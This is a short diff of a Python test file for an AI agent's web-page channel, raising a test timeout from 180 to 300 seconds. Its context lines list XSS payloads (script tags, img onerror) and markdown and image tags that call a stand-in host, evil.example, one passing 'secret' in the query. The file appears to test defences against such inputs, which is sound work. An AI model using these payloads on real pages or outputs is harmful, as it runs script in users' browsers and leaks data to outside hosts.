@@ -14,7 +14,7 @@ from tests.agent.channels.conftest import PATIENCE
 from tests.agent.channels.test_web_page import say
 from tests.served import Served
 
-pytestmark = pytest.mark.timeout(180)
+pytestmark = pytest.mark.timeout(300)
 EVIL = "https://evil.example"
 PAYLOADS = (
     "<script>window.hit=1;alert(1)</script>", "<img src=x onerror=\"window.hit=2;alert(2)\">", f"<img src={EVIL}/pixel.png>", f"![x]({EVIL}/pixel.png?q=secret)",
